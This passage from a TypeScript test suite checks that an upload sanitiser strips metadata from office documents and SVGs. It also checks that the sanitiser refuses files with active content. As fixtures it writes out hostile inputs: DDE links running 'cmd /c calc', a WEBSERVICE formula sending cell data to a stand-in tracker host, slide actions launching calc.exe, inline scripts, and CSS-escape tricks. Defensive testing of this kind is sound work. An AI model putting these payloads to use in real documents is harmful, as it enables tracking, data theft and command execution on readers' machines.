    const encrypted = odfFile('odt', { 'META-INF/manifest.xml': manifest('<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"><manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="x"/></manifest:encryption-data>') });
    assert.deepEqual(await checkUpload(encrypted, 'secret.odt'), { ok: false, problem: 'encryptedDocument' });
    const wholePackage = odfFile('odt', { 'META-INF/manifest.xml': manifest('').replace('content.xml', 'encrypted-package'), 'encrypted-package': 'ciphertext' });
    assert.deepEqual(await checkUpload(wholePackage, 'secret.odt'), { ok: false, problem: 'encryptedDocument' });
  });
});

const ODF_NS =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"';

/** An OpenDocument text whose body is `body`, with more parts (text or bytes) beside it. */
function odtWith(body: string, extra: Record<string, string | Uint8Array> = {}): Buffer {
  const base = unzipSync(odfFile('odt'));
  const content = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${ODF_NS}><office:body><office:text><text:p>Land report 2024</text:p>${body}</office:text></office:body></office:document-content>`;
  return Buffer.from(
    zipSync({
      ...base,
      mimetype: [base.mimetype!, { level: 0 }],
      'content.xml': strToU8(content),
      ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])),
    }),
  );
}

const outcome = async (bytes: Buffer, name: string) => {
  const check = await checkUpload(bytes, name);
  return check.ok ? 'accepted' : check.problem;
};

describe('office documents: OpenDocument links, objects and settings', () => {
  it('refuses a picture, fill or font linked from outside the package, and keeps pictures inside it and hyperlinks', async () => {
    const frame = (href: string) => `<draw:frame><draw:image xlink:href="${href}" xlink:type="simple"/></draw:frame>`;
    assert.equal(await outcome(odtWith(frame('http://tracker.example/pixel.png')), 'minutes.odt'), 'activeContent');
    assert.equal(await outcome(odtWith(frame('&#x68;ttp://tracker.example/pixel.png')), 'minutes.odt'), 'activeContent', 'a scheme written as a character reference');
    assert.equal(await outcome(odtWith(frame('//tracker.example/pixel.png')), 'minutes.odt'), 'activeContent');
    assert.equal(await outcome(odtWith(frame('file:///C:/Users/sokha/photo.png')), 'minutes.odt'), 'activeContent');
    assert.equal(await outcome(odtWith(frame('../photo.png')), 'minutes.odt'), 'activeContent', 'a file beside the document');
    assert.equal(await outcome(odtWith('<d:frame xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:l="http://www.w3.org/1999/xlink"><d:image l:href="https://tracker.example/p.png"/></d:frame>'), 'minutes.odt'), 'activeContent', 'other prefixes');
    const styles = (inner: string) => `<office:document-styles ${ODF_NS}><office:styles>${inner}</office:styles></office:document-styles>`;
    assert.equal(await outcome(odtWith('', { 'styles.xml': styles('<draw:fill-image draw:name="bg" xlink:href="https://tracker.example/bg.png"/>') }), 'minutes.odt'), 'activeContent');
    assert.equal(await outcome(odtWith('', { 'styles.xml': styles('<style:style><style:graphic-properties><style:background-image xlink:href="http://tracker.example/bg.png"/></style:graphic-properties></style:style>') }), 'minutes.odt'), 'activeContent');
    assert.equal(await outcome(odtWith('<text:section text:name="s"><text:section-source xlink:href="https://tracker.example/part.odt"/></text:section>'), 'minutes.odt'), 'activeContent', 'a linked section');

    const photo = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#123456' } }).png().toBuffer();
    const kept = odtWith(`${frame('Pictures/photo.png')}<text:p><text:a xlink:href="https://example.org/report" xlink:type="simple">our report</text:a></text:p>`, {
      'Pictures/photo.png': photo,
      'styles.xml': styles('<draw:fill-image draw:name="bg" xlink:href="Pictures/photo.png"/>'),
    });
    const check = await checkUpload(kept, 'minutes.odt');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const content = strFromU8(unzipSync(check.cleaned)['content.xml']!);
    assert.match(content, /xlink:href="Pictures\/photo\.png"/);
    assert.match(content, /xlink:href="https:\/\/example\.org\/report"/);
  });

  it('refuses OLE objects, applets, plug-ins, frames, scripts, DDE and web formulas, and a DTD that could write them', async () => {
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    const cases: Array<[string, Buffer]> = [
      ['an OLE object', odtWith('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', { 'Object 1': ole, 'ObjectReplacements/Object 1': 'replacement' })],
      ['an OLE part found by its bytes', odtWith('', { 'Object 2': ole })],
      ['an applet', odtWith('<draw:frame><draw:applet draw:code="Tracker.class" xlink:href="Applets/"/></draw:frame>')],
      ['a plug-in', odtWith('<draw:frame><draw:plugin draw:mime-type="application/x-shockwave-flash" xlink:href="Media/1.swf"/></draw:frame>')],
      ['a floating frame', odtWith('<draw:frame><draw:floating-frame xlink:href="Pictures/page.html"/></draw:frame>')],
      ['a script event', odtWith('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>')],
      ['an inline script', odtWith('<text:p><text:script script:language="javascript">alert(1)</text:script></text:p>')],
      ['a slide action that runs a program', odtWith('<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/System32/calc.exe"/></office:event-listeners>')],
      ['a hyperlink to a shipped script', odtWith('<text:p><text:a xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share">click</text:a></text:p>')],
      ['a DDE link', odtWith('<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>')],
      ['a web formula', odtWith('<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;https://tracker.example/?&quot;&amp;[.A1])"/></table:table-row></table:table>')],
      ['an embedded object that is not a sub-document', odtWith('<draw:frame><draw:object xlink:href="./Object 3"/></draw:frame>', { 'Object 3': 'not a document' })],
      ['an embedded object outside the package', odtWith('<draw:frame><draw:object xlink:href="https://tracker.example/chart.ods"/></draw:frame>')],
      ['a DTD with entities', odtWith('', { 'styles.xml': '<!DOCTYPE x [<!ENTITY e "&lt;draw:applet/&gt;">]><office:document-styles>&e;</office:document-styles>' })],
    ];
    for (const [what, bytes] of cases) assert.equal(await outcome(bytes, 'minutes.odt'), 'activeContent', what);
    assert.equal(await outcome(odtWith('', { 'Scripts/python/tracker.py': 'import os' }), 'minutes.odt'), 'macros');
    // A slide's ordinary actions stay: going to the next slide, or following a link when clicked.
    assert.equal(await outcome(odtWith('<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org/"/></office:event-listeners>'), 'minutes.odt'), 'accepted');
  });

  it('reads element and attribute names with any prefix, and refuses a tag it cannot read', async () => {
    const ns = 'xmlns:ñ="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:ñl="http://www.w3.org/1999/xlink" xmlns:ŝ="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ť="urn:oasis:names:tc:opendocument:xmlns:text:1.0"';
    const cases: Array<[string, string]> = [
      ['a linked picture', `<text:p><ñ:image ñl:href="http://tracker.example/p.png" ${ns}/></text:p>`],
      ['an OLE object', `<ñ:frame ${ns}><ñ:object-ole ñl:href="./Object 1"/></ñ:frame>`],
      ['an inline script', `<text:p><ť:script ${ns} ŝ:language="javascript">alert(1)</ť:script></text:p>`],
      ['a DDE link', `<ť:dde-connection-decls ${ns}><ť:dde-connection-decl office:name="x" office:dde-application="cmd"/></ť:dde-connection-decls>`],
      ['a tag that does not parse', '<text:p><draw:image xlink:href=http://tracker.example/p.png/></text:p>'],
    ];
    for (const [what, body] of cases) assert.equal(await outcome(odtWith(body), 'minutes.odt'), 'activeContent', what);
    const rels = `<ñ:Relationships xmlns:ñ="http://schemas.openxmlformats.org/package/2006/relationships"><ñ:Relationship Id="rId1" Type="${WORD_RELS}/image" Target="http://tracker.example/p.png" TargetMode="External"/></ñ:Relationships>`;
    assert.equal(await outcome(ooxmlFile('docx', { 'word/_rels/document.xml.rels': rels }), 'report.docx'), 'activeContent', 'a relationship with another prefix');
  });

  it('refuses DDE, WEBSERVICE and addresses outside the package in any value but a hyperlink, and a form control picture from outside', async () => {
    const FORM = 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"';
    const cases: Array<[string, string]> = [
      ['a named expression using DDE', '<table:named-expressions><table:named-expression table:name="x" table:expression="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:named-expressions>'],
      ['a validation using WEBSERVICE', '<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-true-formula(WEBSERVICE(&quot;https://tracker.example/&quot;))"/></table:content-validations>'],
      ['a named range in another file', "<table:named-expressions><table:named-range table:name=\"r\" table:cell-range-address=\"'file:///C:/Users/sokha/budget.ods'#$Sheet1.$A$1\"/></table:named-expressions>"],
      ['a condition with a network path', '<table:table><table:table-row><table:table-cell table:condition="//tracker.example/x"/></table:table-row></table:table>'],
      ['a form control picture', `<office:forms ${FORM}><form:form><form:button form:name="b" form:image-data="https://tracker.example/b.png"/></form:form></office:forms>`],
      ['a form control picture beside the document', `<office:forms ${FORM}><form:form><form:image form:name="i" form:image-data="../b.png"/></form:form></office:forms>`],
    ];
    for (const [what, body] of cases) assert.equal(await outcome(odtWith(body), 'minutes.odt'), 'activeContent', what);
    const kept = odtWith(`<text:p><text:a xlink:href="https://example.org/report">report</text:a> and https://example.org in the text</text:p><table:table><table:table-row><table:table-cell table:formula="of:=HYPERLINK(&quot;https://example.org/&quot;)" office:value-type="string" office:string-value="https://example.org/"/></table:table-row></table:table><office:forms ${FORM}><form:form><form:button form:name="b" form:image-data="Pictures/b.png"/></form:form></office:forms>`);
    assert.equal(await outcome(kept, 'minutes.odt'), 'accepted');
  });

  it('takes a chart embedded as an OpenDocument sub-document, cleaning its meta.xml and settings like the document’s', async () => {
    const chart = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${ODF_NS} xmlns:chart="urn:oasis:names:tc:opendocument:xmlns:chart:1.0"><office:body><office:chart><chart:chart chart:class="chart:bar"><table:table table:name="local-table"/></chart:chart></office:chart></office:body></office:document-content>`;
    const meta = strFromU8(unzipSync(odfFile('odt'))['meta.xml']!);
    const settings = `<office:document-settings ${ODF_NS}><office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="PrinterName" config:type="string">HR-Printer on \\\\SOKHA-LAPTOP</config:config-item></config:config-item-set></office:settings></office:document-settings>`;
    const replacement = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#abcdef' } }).png().toBuffer();
    const odt = odtWith('<draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/><draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame>', {
      'Object 1/content.xml': chart,
      'Object 1/meta.xml': meta,
      'Object 1/settings.xml': settings,
      'ObjectReplacements/Object 1': replacement,
    });
    const check = await checkUpload(odt, 'minutes.odt');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const parts = assertNoMetadata(check.cleaned);
    assert.match(strFromU8(parts['Object 1/content.xml']!), /chart:class="chart:bar"/);
    assert.match(strFromU8(parts['Object 1/meta.xml']!), /<office:meta\/>/);
    assert.doesNotMatch(strFromU8(parts['Object 1/settings.xml']!), /SOKHA-LAPTOP|PrinterName/);
    assert.ok(parts['ObjectReplacements/Object 1']);
  });

  it('drops the printer, mail-merge database and revision session numbers from settings.xml, keeping the layout settings', async () => {
    const item = (name: string, type: string, value: string) => `<config:config-item config:name="${name}" config:type="${type}">${value}</config:config-item>`;
    const settings = `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-settings ${ODF_NS}><office:settings><config:config-item-set config:name="ooo:view-settings">${item('ViewAreaTop', 'long', '0')}</config:config-item-set><config:config-item-set config:name="ooo:configuration-settings">${[
      item('PrinterName', 'string', 'HR-Printer on \\\\PRINTSRV-SOKHA'),
      item('PrinterSetup', 'base64Binary', Buffer.from('PRINTSRV-SOKHA driver record').toString('base64')),
      item('PrintFaxName', 'string', 'Fax on SOKHA-LAPTOP'),
      item('CurrentDatabaseDataSource', 'string', 'file:///home/sokha/Documents/victims.odb'),
      item('CurrentDatabaseCommand', 'string', 'Victims'),
      item('RsidRoot', 'int', '1234567'),
      item('Rsid', 'int', '7654321'),
      item('PrinterIndependentLayout', 'string', 'high-resolution'),
      '<config:config-item config:name="PrinterPaperFromSetup" config:type="boolean"/>',
    ].join('')}</config:config-item-set></office:settings></office:document-settings>`;
    assert.match(settings, /PRINTSRV-SOKHA/);
    const check = await checkUpload(odtWith('', { 'settings.xml': settings }), 'minutes.odt');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const cleaned = strFromU8(unzipSync(check.cleaned)['settings.xml']!);
    for (const gone of ['PRINTSRV', Buffer.from('PRINTSRV-SOKHA driver record').toString('base64'), 'SOKHA-LAPTOP', 'victims', 'Victims', '1234567', '7654321', 'PrinterName', 'PrinterSetup', 'Rsid']) assert.ok(!cleaned.includes(gone), `${gone} is gone`);
    assert.match(cleaned, /config:name="ViewAreaTop"/);
    assert.match(cleaned, /config:name="PrinterIndependentLayout"[^>]*>high-resolution</);
    assert.match(cleaned, /config:name="PrinterPaperFromSetup"/);
  });
});

/** An SVG as Inkscape saves it: the author in RDF, the export path and document name in its own attributes, a comment, and a photo written into it. */
async function svgWithTraces(extra = ''): Promise<string> {
  const photo = (await photoWithGps()).toString('base64');
  return `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape by ${AUTHOR} -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" width="20" height="20" viewBox="0 0 20 20" sodipodi:docname="/home/sokha.secret/map.svg" inkscape:export-filename="/home/sokha.secret/Desktop/map.png" inkscape:version="1.3">
  <title>Map of the province</title>
  <metadata><rdf:RDF><cc:Work><dc:creator><cc:Agent><dc:title>${EDITOR}</dc:title></cc:Agent></dc:creator><dc:rights>${COMPANY}</dc:rights></cc:Work></rdf:RDF></metadata>
  <sodipodi:namedview id="view" inkscape:current-layer="layer1" inkscape:window-width="1920"/>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <g inkscape:label="${COMMENT}" inkscape:groupmode="layer" id="layer1">
    <path d="M1 1 L19 19" style="fill:url(#g);stroke:#000"/>
    <image width="4" height="3" xlink:href="data:image/jpeg;base64,${photo}"/>
    <a href="https://example.org/map"><text x="2" y="10">Map &amp; legend</text></a>
  </g>${extra}
</svg>`;
}

describe('office documents: SVG pictures', () => {
  const docxWithSvg = (svg: string, name = 'word/media/image1.svg') => Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), [name]: strToU8(svg) }));

  it('rewrites an SVG without its metadata, comments and editor attributes, re-encoding the photo inside it', async () => {
    const svg = await svgWithTraces();
    for (const trace of [AUTHOR, EDITOR, 'sokha.secret', ARTIST]) assert.ok(svg.includes(trace) || Buffer.from(svg.split('base64,')[1]!, 'base64').includes(Buffer.from(trace)), `the fixture carries ${trace}`);
    for (const [file, name] of [
      [docxWithSvg(svg), 'report.docx'],
      [odtWith('<draw:frame><draw:image xlink:href="Pictures/map.svg"/></draw:frame>', { 'Pictures/map.svg': svg }), 'minutes.odt'],
    ] as const) {
      const check = await checkUpload(file, name);
      assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
      const parts = assertNoMetadata(check.cleaned);
      const cleaned = strFromU8(parts[name.endsWith('docx') ? 'word/media/image1.svg' : 'Pictures/map.svg']!);
      for (const gone of ['sokha.secret', 'inkscape', 'sodipodi', 'rdf', 'metadata', '<!--', 'namedview']) assert.ok(!cleaned.includes(gone), `${gone} is gone`);
      assert.match(cleaned, /<title>Map of the province<\/title>/);
      assert.match(cleaned, /<path d="M1 1 L19 19" style="fill:url\(#g\);stroke:#000"\/>/);
      assert.match(cleaned, /<a href="https:\/\/example\.org\/map"><text x="2" y="10">Map &amp; legend<\/text><\/a>/);
      const embedded = /xlink:href="data:image\/jpeg;base64,([^"]+)"/.exec(cleaned);
      assert.ok(embedded, 'the photo stays in the picture');
      const photo = Buffer.from(embedded[1]!, 'base64');
      assert.ok(!photo.includes(Buffer.from(ARTIST)));
      const meta = await sharp(photo).metadata();
      assert.equal(meta.exif, undefined);
      assert.equal(meta.width, 16);
      // Still a picture: sharp draws it.
      assert.equal((await sharp(Buffer.from(cleaned)).metadata()).width, 20);
    }
  });

  it('finds an SVG by its content whatever it is called', async () => {
    const check = await checkUpload(docxWithSvg(await svgWithTraces(), 'word/media/image1.bin'), 'report.docx');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    assert.doesNotMatch(strFromU8(unzipSync(check.cleaned)['word/media/image1.bin']!), /sokha\.secret/);
  });

  it('refuses an SVG that runs a script, shows a page or fetches something from outside', async () => {
    const cases: Array<[string, string]> = [
      ['a script', '<script>fetch("https://tracker.example/")</script>'],
      ['a foreign object', '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">page</div></foreignObject>'],
      ['an event attribute', '<rect width="1" height="1" onload="alert(1)"/>'],
      ['a linked picture', '<image width="1" height="1" href="https://tracker.example/pixel.png"/>'],
      ['a linked picture with xlink', '<image width="1" height="1" xlink:href="http://tracker.example/pixel.png"/>'],
      ['another file', '<use xlink:href="file:///home/sokha/shapes.svg#a"/>'],
      ['a CSS address', '<rect width="1" height="1" style="fill:url(https://tracker.example/f.svg#p)"/>'],
      ['a CSS import', '<style>@import "https://tracker.example/s.css";</style>'],
      ['a CSS address behind an escape', '<rect width="1" height="1" style="fill:u\\72l(https://tracker.example/f.svg#p)"/>'],
      ['a CSS import behind an escape', '<style>@\\69mport "https://tracker.example/s.css";</style>'],
      ['a CSS image set', '<rect width="1" height="1" style="fill:image-set(&quot;https://tracker.example/f.png&quot; 1x)"/>'],
      ['a CSS src()', '<style>rect { fill: src("https://tracker.example/f.svg#p") }</style>'],
      ['a javascript link', '<a href="javascript:alert(1)"><text>x</text></a>'],
      ['an animated link', '<a href="#x"><set attributeName="href" to="https://tracker.example/"/></a>'],
    ];
    for (const [what, extra] of cases) assert.equal(await outcome(docxWithSvg(await svgWithTraces(extra)), 'report.docx'), 'activeContent', what);
    const withDtd = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>';
    assert.equal(await outcome(docxWithSvg(withDtd), 'report.docx'), 'activeContent', 'a DTD');
    assert.equal(await outcome(docxWithSvg('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'), 'report.docx'), 'uncleanableImage', 'an SVG that does not parse');
  });
});

let growing: Buffer | undefined;

/**
 * A .docx of 6 MB that cleans to 60 MB: two copies of a 6700×6700 picture of a small noise tile
 * repeated, which a deflate-compressed TIFF keeps in 3 MB and which comes back re-encoded at
 * 30 MB, since repeating the tile is nothing to a TIFF's deflate and everything to a JPEG.
 */
async function docxGrowingWhenCleaned(): Promise<Buffer> {
  if (growing) return growing;
  const noise = Buffer.alloc(64 * 64 * 3);
  let seed = 1;
  for (let i = 0; i < noise.length; i += 1) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    noise[i] = seed >>> 24;
  }
  const tile = await sharp(noise, { raw: { width: 64, height: 64, channels: 3 } }).png().toBuffer();
  const tiff = await sharp({ create: { width: 6700, height: 6700, channels: 3, background: '#000000' } })
    .composite([{ input: tile, tile: true }])
    .tiff({ compression: 'deflate' })
    .toBuffer();
  growing = Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), 'word/media/image1.tiff': [tiff, { level: 0 }], 'word/media/image2.tiff': [tiff, { level: 0 }] }));
  return growing;
}

describe('office documents: the cleaned size', () => {
  it('refuses a file that cleans to more than the upload limit', async () => {
    const docx = await docxGrowingWhenCleaned();
    assert.ok(docx.length < 10 * 1024 * 1024, `sent well under the limit (${docx.length} bytes)`);
    assert.deepEqual(await checkUpload(docx, 'report.docx'), { ok: false, problem: 'tooLargeCleanedDocument' });
  });
});
